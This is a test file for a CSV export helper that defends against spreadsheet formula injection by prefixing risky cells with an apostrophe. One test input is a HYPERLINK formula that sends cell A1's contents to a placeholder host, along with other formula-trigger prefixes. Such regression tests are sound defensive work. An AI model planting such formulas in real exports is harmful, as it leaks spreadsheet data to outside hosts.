import { csvCell, csvFile } from '../src/csv.js';

// CSV formula injection (issue 44): a cell a spreadsheet would run as a formula is written as text.
describe('csvCell', () => {
  it.each(['=HYPERLINK("http://x.example/?d="&A1;"Nota")', '+1+1', '-2+3', '@SUM(A1:A9)', '\tcmd', '\rcmd'])(
    'neutralises %j',
    (v) => {
      const cell = csvCell(v);
      // Unquoted, or quoted because of a ; or CR: either way the spreadsheet reads an apostrophe first, never = + - @.
      expect(cell.replace(/^"/, '')).toMatch(/^'/);
    },
  );

  it('keeps plain text, numbers (negative ones too) and empties as they are; quotes ; " and line breaks', () => {
    expect(csvCell('Maria Souza')).toBe('Maria Souza');
    expect(csvCell(-1.5)).toBe('-1,5');
    expect(csvCell(613.3)).toBe('613,3');
    expect(csvCell(1000)).toBe('1000');
    expect(csvCell(0)).toBe('0');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell('a;b')).toBe('"a;b"');
    expect(csvCell('diz "oi"')).toBe('"diz ""oi"""');
    expect(csvCell('=1;2')).toBe(`"'=1;2"`);
  });

  it('makes a whole file: BOM, ; and CRLF', () => {
    expect(
      csvFile([
        ['a', 1],
        ['=b', null],
      ]),
    ).toBe("\uFEFFa;1\r\n'=b;\r\n");
  });
});
